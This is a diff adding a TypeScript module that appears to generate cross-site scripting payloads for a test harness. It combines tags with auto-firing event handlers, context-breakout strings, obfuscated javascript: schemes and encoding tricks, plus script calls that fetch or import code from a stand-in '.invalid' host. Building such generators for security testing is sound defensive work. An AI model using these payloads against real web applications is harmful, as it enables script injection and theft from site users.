@@ -1,0 +1,107 @@
+import { type Random, pick } from '../../../cli/seed/random.ts'
+
+/** What a payload does once it runs; each is watched for (trap.ts). */
+const ACTS = [
+  'alert(1)',
+  'print()',
+  'confirm(1)',
+  'sprung(1)',
+  'top.sprung(1)',
+  "fetch('//sprung.invalid')",
+  "import('//sprung.invalid/x.js')",
+  "new Image().src='//sprung.invalid'",
+  'document.body.dataset.sprung=1',
+  'Object.prototype.sprung=1',
+  'self[`ale`+`rt`](1)',
+  "Function('alert(1)')()",
+  "setTimeout('alert(1)')",
+  'eval(atob`YWxlcnQoMSk`)',
+]
+export const TAGS = [
+  'img',
+  'svg',
+  'body',
+  'details',
+  'input',
+  'video',
+  'audio',
+  'iframe',
+  'object',
+  'select',
+  'x',
+  'marquee',
+  'math',
+  'a',
+]
+export const HANDLERS: Record<string, string> = {
+  img: 'src=x onerror',
+  svg: 'onload',
+  body: 'onpageshow',
+  details: 'open ontoggle',
+  input: 'autofocus onfocus',
+  video: 'src=x onerror',
+  audio: 'src=x onerror',
+  iframe: 'onload',
+  object: 'data=x onerror',
+  select: 'autofocus onfocus',
+  x: 'tabindex=1 autofocus onfocus',
+  marquee: 'onstart',
+  math: 'onmouseover',
+  a: 'onpointerenter',
+}
+/** Out of the place a text may have been put into. */
+export const EXITS = [
+  '',
+  '',
+  '',
+  '">',
+  "'>",
+  '`>',
+  '</title>',
+  '</textarea>',
+  '</script>',
+  '</style>',
+  '</template>',
+  '</noscript>',
+  '</option></select>',
+  '-->',
+  ']]>',
+  '"; ',
+  "'; ",
+  '*/',
+  '</p>',
+  '</button></td></tr></table>',
+  '\u2028',
+  '\\',
+  '\\"',
+  '\n\n',
+  '" x="',
+  '{{',
+  '${',
+  '\u202e',
+  '</svg>',
+]
+const BLANKS = [' ', '/', '\t', '\n', '\f', '/ /', '\u00a0']
+export const SCHEMES = [
+  'javascript:',
+  'JaVaScRiPt:',
+  'java\tscript:',
+  '\u0001javascript:',
+  ' javascript:',
+  'javascript&colon;',
+  '&#106;avascript:',
+  'vbscript:',
+  'data:text/html,',
+]
+
+export type Family = (chance: Random) => string
+export const scriptCall = (chance: Random) => pick(chance, ACTS)
+export const blank = (chance: Random) => pick(chance, BLANKS)
+export const quoted = (chance: Random, text: string) => {
+  const quote = pick(chance, ['', '"', "'"])
+  return `${quote}${text}${quote}`
+}
+export const asEntities = (text: string) =>
+  Array.from(text, (letter) => `&#x${letter.codePointAt(0)!.toString(16)};`).join('')
+export const mixed = (chance: Random, text: string) =>
+  Array.from(text, (letter) => (chance() < 0.5 ? letter.toUpperCase() : letter.toLowerCase())).join('')
